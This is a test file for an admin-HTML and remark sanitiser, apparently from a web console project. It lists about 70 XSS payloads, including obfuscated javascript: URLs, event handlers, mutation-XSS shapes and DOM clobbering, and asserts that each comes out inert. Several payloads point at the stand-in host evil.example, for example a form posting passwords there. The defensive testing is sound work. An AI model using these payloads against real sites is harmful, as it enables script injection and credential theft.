import { describe, expect, it } from 'vitest';
import { sanitizeAdminHtml, sanitizeRemark } from './sanitize-html.server.ts';

/**
 * Payloads an administrator could put into Footer, Notice, HomePageContent or About (or a version remark):
 * classic XSS vectors, filter evasions and mutation-XSS shapes. Each must come out inert.
 */
const PAYLOADS: string[] = [
  // script elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '"><script>alert(1)</script>',
  // javascript:, data:, vbscript: URLs, plain and obfuscated
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href=javascript:alert(1) target=_blank>x</a>',
  // SVG and event attributes
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img/src="x"/onerror="alert(1)">',
  '<IMG SRC=x oNeRrOr=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  // frames, objects, forms, documents
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form action="https://evil.example/steal"><input name=password><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="https://evil.example/x.html">',
  // CSS
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="color: red; background-image: url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  // mutation XSS classics (parser differentials)
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="https://ok.example"><svg><a href="javascript:alert(1)">x</a></svg></a>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  // DOM clobbering
  '<a id="__remixContext" name="__remixContext" href="https://ok.example">x</a>',
  '<img name="getElementById" src="https://ok.example/x.png">',
];

const ENTITY: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
/** An attribute value as the browser reads it (sanitize-html always writes double-quoted, escaped values). */
function attributeValue(raw: string): string {
  return raw.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (m, body: string) => {
    if (body[0] !== '#') return ENTITY[body.toLowerCase()] ?? m;
    const code =
      body[1] === 'x' || body[1] === 'X' ? Number.parseInt(body.slice(2), 16) : Number(body.slice(1));
    return String.fromCodePoint(code);
  });
}

const SAFE_TAGS = new Set(
  (
    'address article aside footer header h1 h2 h3 h4 h5 h6 hgroup section blockquote dd div dl dt figcaption ' +
    'figure hr li ol p pre ul a abbr b bdi bdo br cite code data dfn em i kbd mark q rb rp rt rtc ruby s samp ' +
    'small span strong sub sup time u var wbr caption col colgroup table tbody td tfoot th thead tr img del ins ' +
    'details summary center'
  )
    .split(' ')
    .filter(Boolean),
);
const SAFE_ATTRS = new Set([
  'href',
  'src',
  'alt',
  'title',
  'width',
  'height',
  'class',
  'style',
  'lang',
  'dir',
]);
const SAFE_ATTRS_MORE = new Set(['target', 'rel', 'colspan', 'rowspan', 'align', 'scope', 'start', 'type']);

/**
 * The output holds nothing a browser would run or that could navigate or post elsewhere: only formatting tags,
 * no event or unknown attributes, URLs that are http(s), mailto, tel or relative, style without url()/expression.
 */
function expectInert(html: string, payload: string) {
  const where = `${JSON.stringify(payload)} -> ${JSON.stringify(html)}`;
  for (const [, tag = '', attrs = ''] of html.matchAll(
    /<\/?([a-zA-Z][\w:-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    expect(SAFE_TAGS.has(tag.toLowerCase()), `tag <${tag}> in ${where}`).toBe(true);
    for (const [, name = '', raw = ''] of attrs.matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)) {
      const lower = name.toLowerCase();
      expect(SAFE_ATTRS.has(lower) || SAFE_ATTRS_MORE.has(lower), `attribute ${name} in ${where}`).toBe(true);
      const value = attributeValue(raw);
      if (lower === 'href' || lower === 'src') {
        const protocol = new URL(value, 'https://console.example/base/').protocol;
        expect(['http:', 'https:', 'mailto:', 'tel:'], `url ${value} in ${where}`).toContain(protocol);
      }
      if (lower === 'style')
        expect(value, where).not.toMatch(/url\s*\(|expression|behavior|position|@import/i);
      if (lower === 'target') expect(value).toBe('_blank');
    }
  }
  // no markup outside the tags matched above: every other '<' is escaped text
  expect(
    html.replace(/<\/?([a-zA-Z][\w:-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g, ''),
    where,
  ).not.toMatch(/<[a-zA-Z!?/]/);
}

describe('sanitizeAdminHtml', () => {
  it.each(PAYLOADS)('leaves nothing that runs: %j', (payload) => {
    const html = sanitizeAdminHtml(payload);
    expectInert(html, payload);
    expect(html).not.toMatch(
      /javascript|vbscript|data:|expression|<script|<svg|<math|<iframe|<style|\son\w+=/i,
    );
  });

  it(`refuses all ${PAYLOADS.length} payloads (the figure the issue asks for)`, () => {
    const executable = PAYLOADS.filter((p) =>
      /javascript|vbscript|data:|<script|<svg|<iframe|<style|<form|<meta|<base|\son\w+=/i.test(
        sanitizeAdminHtml(p),
      ),
    );
    console.log(`[sanitizer] payloads tried: ${PAYLOADS.length}, left executable: ${executable.length}`);
    expect(executable).toEqual([]);
  });

  it('keeps ordinary formatting, links, images and safe styles', () => {
    expect(
      sanitizeAdminHtml(
        '<div style="text-align:center;color:#888"><p>(c) 2025 <b>Acme</b> · <a href="https://acme.example/terms">Terms</a> · ' +
          '<a href="mailto:ops@acme.example">Mail</a> · <a href="/about">About</a></p>' +
          '<img src="https://cdn.acme.example/logo.png" alt="Acme" width="20"></div>',
      ),
    ).toBe(
      '<div style="text-align:center;color:#888"><p>(c) 2025 <b>Acme</b> · <a href="https://acme.example/terms">Terms</a> · ' +
        '<a href="mailto:ops@acme.example">Mail</a> · <a href="/about">About</a></p>' +
        '<img src="https://cdn.acme.example/logo.png" alt="Acme" width="20" /></div>',
    );
    expect(
      sanitizeAdminHtml('<table><tr><th scope="col">a</th></tr><tr><td colspan="2">b</td></tr></table>'),
    ).toBe('<table><tr><th scope="col">a</th></tr><tr><td colspan="2">b</td></tr></table>');
    expect(sanitizeAdminHtml('<p class="acme-footer">Acme</p>')).toBe('<p class="acme-footer">Acme</p>');
  });

  it('drops refused links but keeps their text; a new-tab link gets rel="noopener noreferrer"', () => {
    expect(sanitizeAdminHtml('<a href="jav&#x09;ascript:alert(1)">read</a> on')).toBe('read on');
    expect(sanitizeAdminHtml('<a href="https://a.example" target="_blank" rel="opener">a</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">a</a>',
    );
    expect(sanitizeAdminHtml('<a href="https://a.example" target="_top" rel="opener">a</a>')).toBe(
      '<a href="https://a.example">a</a>',
    );
  });

  it('keeps only the listed CSS properties with plain values', () => {
    expect(sanitizeAdminHtml('<p style="color:red;background:url(javascript:x);position:fixed">x</p>')).toBe(
      '<p style="color:red">x</p>',
    );
    expect(sanitizeAdminHtml('<p style="width:expression(alert(1))">x</p>')).toBe('<p>x</p>');
  });

  it('answers an empty string for empty or missing input', () => {
    expect(sanitizeAdminHtml('')).toBe('');
    expect(sanitizeAdminHtml(undefined)).toBe('');
  });
});

describe('sanitizeRemark (the version remark, replacing the hand-written sanitiser with the same rules)', () => {
  it.each(PAYLOADS)('leaves nothing that runs: %j', (payload) => {
    const html = sanitizeRemark(payload);
    expectInert(html, payload);
    expect(html).not.toMatch(/javascript|vbscript|data:|<script|<svg|<img|<iframe|<style|\son\w+=|style=/i);
  });

  it('keeps the allow-list and drops scripts, styles, handlers and javascript: URLs', () => {
    expect(sanitizeRemark('<p>Hello <b>bold</b> <i>i</i><br/>x</p>')).toBe(
      '<p>Hello <b>bold</b> <i>i</i><br />x</p>',
    );
    expect(sanitizeRemark('<script>alert(1)</script>ok<style>p{}</style>')).toBe('ok');
    expect(sanitizeRemark('<p onclick="alert(1)" style="x">a</p>')).toBe('<p>a</p>');
    expect(sanitizeRemark('<img src=x onerror=alert(1)>t')).toBe('t');
    expect(sanitizeRemark('<a href="javascript:alert(1)">x</a>')).toBe('x');
    expect(sanitizeRemark('<a href=" jav&#x61;script:alert(1)">x</a>')).toBe('x');
    expect(sanitizeRemark('<a>no href</a><a href="data:text/html,x">d</a><a href="/rel">r</a>')).toBe(
      'no hrefdr',
    );
    expect(sanitizeRemark('<a href="https://example.com/?a=1&amp;b=2" onmouseover="x">go</a>')).toBe(
      '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">go</a>',
    );
    expect(sanitizeRemark('<ul><li>one<li>two</ul>')).toBe('<ul><li>one</li><li>two</li></ul>');
    expect(sanitizeRemark('a < b & "c" <h2>T</h2></div>')).toBe('a &lt; b &amp; "c" <h2>T</h2>');
    expect(sanitizeRemark('<pre><code>&lt;x&gt;</code></pre><!-- c -->')).toBe(
      '<pre><code>&lt;x&gt;</code></pre>',
    );
    expect(sanitizeRemark('<b>unclosed')).toBe('<b>unclosed</b>');
    expect(sanitizeRemark('<svg><script>x</script></svg>y<iframe src="x"></iframe>')).toBe('y');
    expect(sanitizeRemark('plain text')).toBe('plain text');
  });
});
